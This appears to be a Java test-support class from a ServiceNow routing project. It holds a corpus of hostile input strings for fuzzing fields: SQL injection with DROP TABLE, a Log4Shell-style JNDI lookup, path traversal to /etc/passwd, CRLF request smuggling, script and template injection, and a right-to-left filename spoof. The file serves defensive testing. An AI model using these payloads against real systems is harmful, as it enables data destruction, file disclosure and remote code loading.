package io.roombridge.route;

import java.util.List;
import java.util.Random;

/** What somebody may write into a field to reach something else with it. */
final class HostileText {

    /** Every trick that one line can hold: queries, paths, scripts, mapping and log languages, SQL, writing direction. */
    static final String ONE_LINE = "x^ORactive=true^NQactive=true^EQ ../../sys_user/%2e%2e%2f%5EORactive=true,%25"
            + " [code]<script>alert(1)</script>[/code] ' OR 1=1; DROP TABLE ticket; -- ${jndi:ldap://x/a} {{1+1}} ${body}"
            + " {\"a\": .b} \u202Egpj.exe";

    private static final List<String> OTHERS = List.of(
            "javascript:gs.eventQueue('x')",
            " JavaScript:gs.log(1)",
            "a\r\nX-Evil: 1\r\n\r\nGET /api/now/table/sys_user HTTP/1.1",
            "a\u0000b",
            "../../../../etc/passwd",
            "..",
            "%2e%2e/%2e%2e",
            "^",
            ",",
            "'; drop table ticket; --",
            "RAW(x)&resource=table&table=sys_user",
            "[code]<a href=x>[/code]");

    private HostileText() {}

    static String any(Random random) {
        return OTHERS.get(random.nextInt(OTHERS.size()));
    }
}
